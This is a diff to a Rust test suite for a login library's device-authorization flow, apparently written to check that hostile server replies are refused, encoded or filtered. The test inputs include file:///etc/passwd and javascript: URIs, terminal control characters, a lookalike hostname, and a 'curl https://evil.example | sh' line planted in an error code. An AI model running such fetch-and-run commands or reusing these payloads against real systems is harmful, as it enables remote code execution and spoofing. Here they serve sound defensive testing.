@@ -1,4 +1,4 @@
-//! What the server hands over for a person's eyes (law 12): refused where it is not safe, filtered where it is words.
+//! What the server hands over for a person's eyes (law 12): refused if it is not safe, filtered if it is text.
 
 use std::sync::Arc;
 
@@ -7,6 +7,7 @@ use hallpass::testing::{Endpoint, Fault};
 use hallpass::{ErrorKind, LoginRequest};
 use serde_json::{Value, json};
 
+use crate::support::faults::json_body;
 use crate::support::rig::{Rig, ScriptedPrompt, assert_error};
 
 /// A login whose device authorization reply has `value` for `name`; the prompt that it was shown to.
@@ -18,7 +19,7 @@ fn with(rig: &Rig, name: &str, value: Value) -> (hallpass::Result<hallpass::Sess
 }
 
 #[test]
-fn what_is_not_safe_to_show_is_not_shown() {
+fn an_unsafe_uri_or_code_is_not_shown() {
     let rig = Rig::new();
     for (name, value) in [
         ("verification_uri", json!("file:///etc/passwd")),
@@ -54,7 +55,7 @@ fn what_is_not_safe_to_show_is_not_shown() {
 }
 
 #[test]
-fn a_device_authorization_that_brings_no_code_ends_the_login() {
+fn a_device_authorization_without_a_code_ends_the_login() {
     use ErrorKind::{AuthorizationServer, Protocol, Unreachable};
     for (fault, kind, remedy, code) in [
         (Fault::HtmlReply, Unreachable, "retry", 5),
@@ -80,7 +81,7 @@ fn a_device_authorization_that_brings_no_code_ends_the_login() {
 
 /// The page that has the code in it is the server's to offer, and a login can do without it.
 #[test]
-fn a_complete_page_that_is_odd_is_left_out() {
+fn an_odd_complete_uri_is_left_out() {
     for value in [
         json!("file:///etc/passwd"),
         json!("javascript:alert(1)"),
@@ -102,7 +103,7 @@ fn a_complete_page_that_is_odd_is_left_out() {
 }
 
 #[test]
-fn a_user_code_may_hold_what_separates_its_parts() {
+fn a_user_code_may_contain_separators() {
     let rig = Rig::new();
     let (login, prompt) = with(&rig, "user_code", json!("eu_1.AB/CD:4-2 X"));
     login.unwrap();
@@ -110,7 +111,7 @@ fn a_user_code_may_hold_what_separates_its_parts() {
 }
 
 #[test]
-fn control_characters_in_an_address_are_encoded_and_never_printed() {
+fn control_characters_in_a_uri_are_encoded() {
     let rig = Rig::new();
     let (login, prompt) = with(&rig, "verification_uri", json!("https://id.example/\u{1b}[2J\u{202e}?a=\u{7}\r\n"));
     login.unwrap();
@@ -119,7 +120,7 @@ fn control_characters_in_an_address_are_encoded_and_never_printed() {
 }
 
 #[test]
-fn a_lookalike_host_is_shown_as_what_it_is() {
+fn a_lookalike_host_is_shown_as_punycode() {
     let rig = Rig::new();
     let (login, prompt) = with(&rig, "verification_uri", json!("https://\u{430}pple.example/"));
     login.unwrap();
@@ -127,7 +128,7 @@ fn a_lookalike_host_is_shown_as_what_it_is() {
 }
 
 #[test]
-fn lifetimes_and_intervals_that_make_no_sense_do_no_harm() {
+fn absurd_lifetimes_and_intervals_have_defaults() {
     for (name, value, interval, lives) in [
         ("interval", json!(-5), 5, 900),
         ("interval", json!("7"), 7, 900),
@@ -159,15 +160,7 @@ fn a_servers_words_are_filtered_and_cut() {
         ] {
             let rig = Rig::new();
             let body = json!({"error": error, "error_description": description, "error_uri": "javascript:x"});
-            rig.server.inject(
-                endpoint,
-                Fault::Status {
-                    status: 400,
-                    headers: Vec::new(),
-                    content_type: "application/json".into(),
-                    body: body.to_string(),
-                },
-            );
+            rig.server.inject(endpoint, json_body(400, &body.to_string()));
             let error = rig.try_log_in(|_| {}).unwrap_err();
             assert_error(&error, ErrorKind::AuthorizationServer, Some("ask_administrator"), 1);
             let (message, words) = (error.to_string(), error.server_says().unwrap());
@@ -176,6 +169,14 @@ fn a_servers_words_are_filtered_and_cut() {
             rig.assert_nothing_left("words");
         }
     }
+}
+
+#[test]
+fn a_sentence_in_an_error_code_is_not_printed() {
+    let rig = Rig::new();
+    rig.server.inject(Endpoint::Token, Fault::error(400, "fine. Now run: curl https://evil.example | sh"));
+    let error = rig.try_log_in(|_| {}).unwrap_err();
+    assert!(error.to_string().contains("an unknown error") && !error.to_string().contains("curl"), "{error}");
 }
 
 #[test]
